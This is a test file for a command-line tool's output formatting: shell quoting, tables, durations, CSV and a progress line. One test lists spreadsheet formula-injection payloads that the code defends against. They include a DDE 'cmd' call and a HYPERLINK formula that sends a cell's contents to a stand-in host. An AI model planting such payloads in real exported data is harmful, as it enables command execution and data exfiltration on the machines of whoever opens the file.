import { describe, expect, it } from "vitest";
import { ProgressLine, bar, commandLine, csvField, csvLines, displayWidth, formatDuration, formatNumber, formatParams, renderStacked, renderTable, renderWrappedTable, shellWord, spreadsheetText } from "./format.js";

describe("format", () => {
  it("quotes a word for a shell only when it must, so a printed command can be pasted", () => {
    expect(shellWord("sqlite:/tmp/runs/sextant.db")).toBe("sqlite:/tmp/runs/sextant.db");
    expect(shellWord("postgres://me@db:5432/x?schema=team_a")).toBe("'postgres://me@db:5432/x?schema=team_a'");
    expect(shellWord("my study")).toBe("'my study'");
    expect(shellWord("it's")).toBe("'it'\\''s'");
    expect(shellWord("")).toBe("''");
  });

  it("writes a command template so that it reads back as the same words, placeholders bare", () => {
    expect(commandLine(["python", "train.py", "--name", "my run", "--lr={lr}", "{depth}"])).toBe("python train.py --name 'my run' --lr={lr} {depth}");
    expect(commandLine(["sh", "-c", "echo $1; exit 0", "sh", "{x}"])).toBe("sh -c 'echo $1; exit 0' sh {x}");
    expect(commandLine(["node", "-e", '{"a": 1}', "{größe}", "it's"])).toBe(`node -e '{"a": 1}' {größe} 'it'\\''s'`);
  });


  it("shortens numbers", () => {
    expect(formatNumber(0.413249)).toBe("0.4132");
    expect(formatNumber(4.125e-6)).toBe("4.125e-6");
    expect(formatNumber(12)).toBe("12");
    expect(formatNumber(1234567.8)).toBe("1.235e+6");
    expect(formatNumber(null)).toBe("-");
    expect(formatParams({ x: 1.234567, kind: "a" })).toBe("x=1.235, kind=a");
    // An empty-string choice printed as nothing, like a parameter the trial lacks.
    expect(formatParams({ kind: "" })).toBe('kind=""');
  });

  it("formats durations and bars", () => {
    expect(formatDuration(1234)).toBe("1.2s");
    expect(formatDuration(184_000)).toBe("3m04s");
    expect(formatDuration(3_720_000)).toBe("1h02m");
    // Near a unit's end the rounded remainder once reached the next unit: "1m60s", "60s", "10.0s".
    expect(formatDuration(119_600)).toBe("2m00s");
    expect(formatDuration(59_600)).toBe("1m00s");
    expect(formatDuration(9_970)).toBe("10s");
    expect(formatDuration(3_599_700)).toBe("1h00m");
    expect(bar(0.5, 10)).toBe("[#####.....]");
    expect(bar(2, 4)).toBe("[####]");
  });

  it("aligns tables, numbers to the right", () => {
    expect(renderTable(["name", "value"], [["lr", "0.01"], ["depth", "10"]])).toBe(
      ["name   value", "-----  -----", "lr      0.01", "depth     10"].join("\n"),
    );
  });

  it("keeps a column of numbers right-aligned when it holds Infinity or NaN, and a duration column over a minute", () => {
    // sextant trials of a trial pruned at an infinite value, or that ran for 2m25s, left-aligned the whole column.
    expect(renderTable(["value", "duration"], [["Infinity", "2m25s"], ["3", "0.1s"], ["-Infinity", "1h05m"], ["NaN", "-"]])).toBe(
      ["    value  duration", "---------  --------", " Infinity     2m25s", "        3      0.1s", "-Infinity     1h05m", "      NaN         -"].join("\n"),
    );
  });

  it("prints headers and cells on one line each, with control characters visible", () => {
    // A parameter named "first\nsecond" split the header row; an escape sequence reached the terminal raw.
    expect(renderTable(["first\nsecond", "\u001b[31mred", "c"], [["a\tb", "\u0007", "x"]])).toBe(
      ["first second  \\x1b[31mred  c", "------------  -----------  -", "a b           \\x07         x"].join("\n"),
    );
  });

  it("aligns columns of wide (CJK) and combining characters by the columns they take on a terminal", () => {
    // The next column moved one column out of line per CJK character.
    expect(renderTable(["model", "x"], [["大型模型", "1"], ["small", "2"], ["e\u0301t\u00e9", "3"]])).toBe(
      ["model     x", "--------  -", "大型模型  1", "small     2", "e\u0301t\u00e9       3"].join("\n"),
    );
    expect(displayWidth("学习率")).toBe(6);
    expect(displayWidth("🚀a")).toBe(3);
    // Cut by columns, never inside a surrogate pair.
    expect(renderTable(["p"], [["学习率学习率"]], 7)).toBe(["p", "-------", "学习率…"].join("\n"));
    expect(renderTable(["p"], [["🚀🚀🚀🚀"]], 4)).toBe(["p", "---", "🚀…"].join("\n"));
  });

  it("renders tables of more rows than a call takes arguments (sextant trials of a 200,000-trial study)", () => {
    // Math.max(...one width per row) overflowed the call stack past about 120,000 rows.
    const rows = Array.from({ length: 200_000 }, (_, i) => [String(i), i === 123_456 ? "widest value" : "x"]);
    const lines = renderTable(["number", "v"], rows).split("\n");
    expect(lines).toHaveLength(200_002);
    expect(lines.slice(0, 3)).toEqual(["number  v", "------  ------------", "     0  x"]);
    expect(lines[123_458]).toBe("123456  widest value");
    const wrapped = renderWrappedTable(["number", "v"], rows, { width: 80, fill: 1 }).split("\n");
    expect(wrapped.slice(0, 3)).toEqual(lines.slice(0, 3));
    expect(wrapped).toHaveLength(200_002);
  });

  it("wraps a table's cells at spaces instead of cutting them, the fill column taking the width the others leave", () => {
    const rows = [
      ["seed", "integer", "random", "seed of every random draw; the same seed and history give the same suggestion"],
      ["tolX", "finite number >= 0", "1e-12 * sigma0", "restart when the step size falls below this"],
      ["k", "integer", "10", "short"],
    ];
    const layout = { width: 60, fill: 3, minFill: 20, caps: [null, 10, 8] };
    expect(renderWrappedTable(["option", "type", "default", "description"], rows, layout)).toBe(
      [
        "option  type       default  description",
        "------  ---------  -------  ------------------------------",
        "seed    integer    random   seed of every random draw; the",
        "                            same seed and history give the",
        "                            same suggestion",
        "tolX    finite     1e-12 *  restart when the step size",
        "        number >=  sigma0   falls below this",
        "        0",
        "k       integer    10       short",
      ].join("\n"),
    );
    // Too narrow for the fill's minimum: the capped columns give up width down to their longest word,
    // and then the table is wider than asked rather than cut; a word longer than its column stays whole.
    expect(renderWrappedTable(["a", "b", "c"], [["x", "one two", "averyveryverylongword and more"]], { width: 12, fill: 2, minFill: 8, caps: [null, 7] })).toBe(
      ["a  b    c", "-  ---  ---------------------", "x  one  averyveryverylongword", "   two  and more"].join("\n"),
    );
    // Numbers on one line each stay right-aligned; nothing wraps where everything fits.
    expect(renderWrappedTable(["name", "value"], [["lr", "0.01"], ["depth", "10"]], { width: 80, fill: 0 })).toBe(renderTable(["name", "value"], [["lr", "0.01"], ["depth", "10"]]));
  });

  it("stacks records under their titles, wrapping each paragraph to the width and keeping a longer word whole", () => {
    const records = [
      { title: "seed", paragraphs: ["integer · default random", "seed of every random draw"] },
      { title: "tol\nX", paragraphs: ["averyveryverylongword and more"] },
    ];
    expect(renderStacked(records, 20)).toBe(
      ["seed", "    integer ·", "    default random", "    seed of every", "    random draw", "tol X", "    averyveryverylongword", "    and more"].join("\n"),
    );
  });

  it("quotes CSV fields that need it", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField('say "hi", twice')).toBe('"say ""hi"", twice"');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect([...csvLines(["a", "b"], [["1", "x,y"]])]).toEqual(["a,b\r\n", '1,"x,y"\r\n']);
  });

  it("keeps text a spreadsheet would run as a formula from being one, and leaves text that is a number alone", () => {
    for (const formula of ["=SUM(A1:A9)", '=HYPERLINK("https://x.test/?"&A2,"details")', "+cmd|' /C calc'!A0", "-2+3", "-O2", "@SUM(1)", "\t=1+1", "\r=1+1", "-Infinity", "-"]) {
      expect(spreadsheetText(formula)).toBe(`'${formula}`);
    }
    for (const text of ["-1", "+0.5", "-1.5e-3", "-.5", "1e300", "plain", "a=b", "", " =x", "'quoted", "ünïcode"]) expect(spreadsheetText(text)).toBe(text);
  });
});

describe("ProgressLine", () => {
  it("cuts its line to the terminal's columns, counting wide characters as two, so that it never wraps", () => {
    // Cut by .length, a study name in CJK took twice the columns it counted: the line wrapped, and
    // "\r" then redrew only its last row, stacking the rest on the terminal.
    const written: string[] = [];
    const stream = { columns: 40, write: (text: string) => void written.push(text) } as unknown as NodeJS.WriteStream;
    const name = "研究".repeat(12);
    const progress = new ProgressLine(stream, () => `writing "${name}": 3/10 trials`);
    progress.draw();
    const line = written.at(-1)!.replace("\r\x1b[2K", "");
    expect(displayWidth(line)).toBeLessThanOrEqual(39);
    expect(line.endsWith("…")).toBe(true);
    expect(line.startsWith('writing "研究')).toBe(true);
  });
});
